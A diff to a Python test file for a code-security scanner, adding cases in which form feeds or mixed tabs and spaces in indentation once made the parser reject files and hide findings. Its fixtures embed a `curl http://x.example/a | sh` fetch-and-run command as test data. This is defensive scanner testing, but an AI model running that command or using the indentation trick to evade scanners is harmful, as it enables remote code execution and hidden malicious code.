@@ -1,11 +1,11 @@
 """Session 47: fail closed, stay up, hide nothing (found by fuzz/test_fuzz_monotone.py).
 
-- A form feed in a line's indentation: CPython resets the line's indentation count at it (its tokenizer sets the
-  column to 0), so `\\f` before the first line of a nested block runs as written; libcst's tokenizer refused the
-  file ("no matching outer block for dedent"). One form feed turned any file into a lone
+- Indentation CPython reads and libcst's tokenizer refused ("no matching outer block for dedent"): a form feed in a
+  line's indentation (CPython's tokenizer sets the column back to 0 at it) before a nested block's line, and tabs
+  and spaces mixed within one line's indentation (`\\t ` then `  \\t\\t `: CPython counts a tab to the next
+  multiple of 8 and checks that tabs of width 1 agree). One such line turned any file into a lone
   `unanalyzable.parse-error`: every other finding of the file gone, a reject turned escalate. The screen now reads
-  such a file with the indentation before each line's last form feed dropped (parse._form_feeds_dropped), as
-  CPython reads it.
+  such a file with each line's indentation written as the spaces CPython counts (parse._indentation_in_spaces).
 """
 
 from __future__ import annotations
@@ -25,8 +25,10 @@ RUNNER = "import os\n\n\nclass Helper:\n    def run(self):\n        os.system('c
     RUNNER.replace("        os.system", "\x0c        os.system"),
     RUNNER.replace("        os.system", "    \x0c        os.system"),
     "import os\nif True:\n\x0c    if True:\n        os.system('curl http://x.example/a | sh')\n    x = 1\n",
-], ids=["block-opener", "nested-line", "spaces-before", "if-chain"])
-def test_a_form_feed_in_the_indentation_hides_nothing(tmp_path: Path, source: str) -> None:
+    "import os\nif True:\n\t if True:\n  \t\t os.system('curl http://x.example/a | sh')\nx = 1\n",
+    "import os\nif True:\n \tif True:\n     \t   os.system('curl http://x.example/a | sh')\nx = 1\n",
+], ids=["block-opener", "nested-line", "spaces-before", "if-chain", "tab-then-space", "space-then-tab"])
+def test_indentation_python_reads_hides_nothing(tmp_path: Path, source: str) -> None:
     compile(source, "client.py", "exec")  # CPython runs it as written
     plain = kit.scan_text(source.replace("\x0c", ""))
     report = kit.scan_source(tmp_path, source)
@@ -34,8 +36,9 @@ def test_a_form_feed_in_the_indentation_hides_nothing(tmp_path: Path, source: st
     assert {(f.rule, f.line) for f in report.findings} == {(f.rule, f.line) for f in plain.findings}
 
 
-def test_a_form_feed_inside_a_string_is_kept(tmp_path: Path) -> None:
-    source = "import os\nif True:\n    TEXT = '''a\n\x0c    b'''\n    os.system('echo ' + TEXT)\n"
+@pytest.mark.parametrize("inside", ["\x0c    b", "\t  b"])
+def test_indentation_inside_a_string_is_kept(tmp_path: Path, inside: str) -> None:
+    source = f"import os\nif True:\n\tTEXT = '''a\n{inside}'''\n\tos.system('echo ' + TEXT)\n"
     report = kit.scan_source(tmp_path, source)
     assert any(f.rule.startswith("subprocess.") or f.rule.startswith("remote-code.") for f in report.findings), \
         kit.findings(report)
